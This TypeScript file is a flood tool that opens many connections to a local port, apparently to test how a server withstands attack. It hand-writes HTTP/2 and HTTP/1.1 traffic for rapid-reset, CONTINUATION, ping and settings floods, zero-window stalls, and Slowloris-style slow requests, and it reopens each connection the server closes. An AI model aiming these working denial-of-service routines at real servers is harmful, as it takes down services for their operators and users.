/**
 * A program that attacks a port: `node flood.ts '{"kind": …, "port": …}'`, see `Flood`. It writes frames of HTTP/2 and bytes of
 * HTTP/1.1 itself, so that no library keeps it within the limits of the server, and replaces every connection that the server closes.
 * It ends after the given time.
 */
import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import type { Socket } from "node:net";
import {
  acknowledged,
  callHeaders,
  emptyMessage,
  endHeaders,
  endStream,
  frame,
  headerBlock,
  noWindow,
  preface,
  word,
} from "@switchyard/rpc/testing";

/** Describes an attack. */
export interface Flood {
  kind: string;
  port: number;
  milliseconds: number;
  connections: number;
  /** The number of streams, frames or requests that each connection starts with. */
  count: number;
  path?: string;
  token?: string;
}

function requestHead(path: string, token: string | undefined, length: number, type = "application/json"): string {
  const authorization = token === undefined ? "" : `authorization: Bearer ${token}\r\n`;
  return `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n${authorization}\r\n`;
}

function requestHeaders({ path = "/grpc.health.v1.Health/Check", token }: Flood): Buffer {
  return callHeaders(path, token);
}

const statusCounts: Record<string, number> = {};

/** Sends a document of `count` different lines of 37 bytes, and closes the connection after the response. */
function documents(
  { path = "/", token, count }: Flood,
  type: string,
  head: string,
  tail: string,
): (socket: Socket) => void {
  const words = Buffer.from(`${"Invoice 17 of 2026, total due 12.00 \n".repeat(count)}${tail}`);
  return (socket) => {
    const beginning = head + randomBytes(8).toString("hex");
    socket.write(requestHead(path, token, beginning.length + words.length, type) + beginning);
    socket.write(words);
    socket.once("data", (response) => {
      const [, status = "?"] = response.toString("latin1").split(" ", 2);
      statusCounts[status] = (statusCounts[status] ?? 0) + 1;
      setTimeout(() => socket.destroy(), 100);
    });
  };
}

/** Starts `count` streams with the given frames, a few hundred at a time. */
function streams(flood: Flood, frames: (stream: number, headers: Buffer) => Buffer): (socket: Socket) => void {
  const headers = requestHeaders(flood);
  return (socket) => {
    let stream = 1;
    socket.write(Buffer.concat([preface, noWindow, acknowledged]));
    const more = (): void => {
      while (!socket.destroyed && stream < 2 * flood.count) {
        const burst: Buffer[] = [];
        for (let index = 0; index < 200 && stream < 2 * flood.count; index += 1, stream += 2)
          burst.push(frames(stream, headers));
        if (!socket.write(Buffer.concat(burst))) {
          socket.once("drain", more);
          return;
        }
      }
    };
    more();
  };
}

/** Writes the same bytes `count` times, and repeats this until the connection is closed. */
function repeated(begin: Buffer, bytes: Buffer, count: number): (socket: Socket) => void {
  const burst = Buffer.concat(Array.from({ length: 200 }, () => bytes));
  return (socket) => {
    socket.write(begin);
    let sent = 0;
    const more = (): void => {
      while (!socket.destroyed && sent < count) {
        sent += 200;
        if (!socket.write(burst)) {
          socket.once("drain", more);
          return;
        }
      }
    };
    more();
  };
}

/** Writes one byte every half second. */
function trickled(begin: string): (socket: Socket) => void {
  return (socket) => {
    socket.write(begin);
    const timer = setInterval(() => socket.write("a"), 500);
    socket.once("close", () => clearInterval(timer));
  };
}

const kinds: Readonly<Record<string, (flood: Flood) => (socket: Socket) => void>> = {
  /** Connections that send nothing. */
  silent: () => () => undefined,
  /** HTTP/2 connections that send only their settings, and do not acknowledge those of the server. */
  preface: () => (socket) => void socket.write(Buffer.concat([preface, noWindow])),
  /** Requests that never end, with a window that allows no response. */
  "half open": (flood) => streams(flood, (stream, headers) => frame("headers", endHeaders, stream, headers)),
  /** Complete requests with a window that allows no response. */
  unread: (flood) =>
    streams(flood, (stream, headers) =>
      Buffer.concat([frame("headers", endHeaders, stream, headers), frame("data", endStream, stream, emptyMessage)]),
    ),
  /** Requests that are reset immediately. */
  reset: (flood) =>
    streams(flood, (stream, headers) =>
      Buffer.concat([frame("headers", endHeaders, stream, headers), frame("reset", 0, stream, word(8))]),
    ),
  ping: ({ count }) =>
    repeated(Buffer.concat([preface, noWindow, acknowledged]), frame("ping", 0, 0, Buffer.alloc(8)), count),
  settings: ({ count }) => repeated(Buffer.concat([preface, noWindow, acknowledged]), noWindow, count),
  /** A header block that never ends. */
  continuation: (flood) =>
    repeated(
      Buffer.concat([preface, noWindow, acknowledged, frame("headers", 0, 1, requestHeaders(flood))]),
      frame("continuation", 0, 1, headerBlock({ "x-a": "a".repeat(100) })),
      flood.count,
    ),
  /** A request whose body consists of many empty frames. */
  "empty frames": (flood) =>
    repeated(
      Buffer.concat([preface, noWindow, acknowledged, frame("headers", endHeaders, 1, requestHeaders(flood))]),
      frame("data", 0, 1),
      flood.count,
    ),
  "window updates": ({ count }) =>
    repeated(Buffer.concat([preface, noWindow, acknowledged]), frame("windowUpdate", 0, 0, word(1)), count),
  /** Requests of which as much is sent as the server accepts. */
  "large body": ({ path = "/", token, count }) =>
    repeated(Buffer.from(requestHead(path, token, 200 * count)), Buffer.alloc(200, "a"), count),
  /** The same over HTTP/2, within the flow-control windows. */
  "large message": (flood) => {
    const headers = frame("headers", endHeaders, 1, requestHeaders(flood));
    return repeated(
      Buffer.concat([preface, noWindow, acknowledged, headers]),
      frame("data", 0, 1, Buffer.alloc(16_000)),
      flood.count,
    );
  },
  /** Documents as the body of a request. */
  upload: (flood) => documents(flood, "text/plain", "", ""),
  /** Documents as the file of a form. */
  form: (flood) => {
    const part = 'content-disposition: form-data; name="file"; filename="a.txt"\r\ncontent-type: text/plain';
    return documents(
      flood,
      "multipart/form-data; boundary=boundary",
      `--boundary\r\n${part}\r\n\r\n`,
      "\r\n--boundary--\r\n",
    );
  },
  "slow headers": () => trickled("GET /healthz HTTP/1.1\r\nhost: x\r\nx-a: "),
  "slow body": ({ path = "/api/v1/classify", token }) => trickled(`${requestHead(path, token, 1_000_000)}{"a":"`),
  /** Sequential requests whose responses are not read. */
  "unread pages":
    ({ path = "/openapi.json", token, count }) =>
    (socket) => {
      socket.pause();
      const authorization = token === undefined ? "" : `authorization: Bearer ${token}\r\n`;
      const request = `GET ${path} HTTP/1.1\r\nhost: x\r\n${authorization}\r\n`;
      for (let index = 0; index < count; index += 1) socket.write(request);
    },
};

const flood = JSON.parse(process.argv[2] ?? "{}") as Flood;
const attack = kinds[flood.kind]?.(flood);
if (attack === undefined) throw new Error(`There is no attack ${flood.kind}`);
let opened = 0;
const end = performance.now() + flood.milliseconds;

function open(): void {
  if (performance.now() > end) return;
  opened += 1;
  const socket = connect(flood.port, "127.0.0.1", () => attack?.(socket));
  socket.on("error", () => undefined);
  if (flood.kind !== "unread pages") socket.resume();
  socket.once("close", () => setTimeout(open, 10));
}

for (let index = 0; index < flood.connections; index += 1) open();
setTimeout(() => {
  console.log(`${opened} connections opened`, statusCounts);
  process.exit();
}, flood.milliseconds);
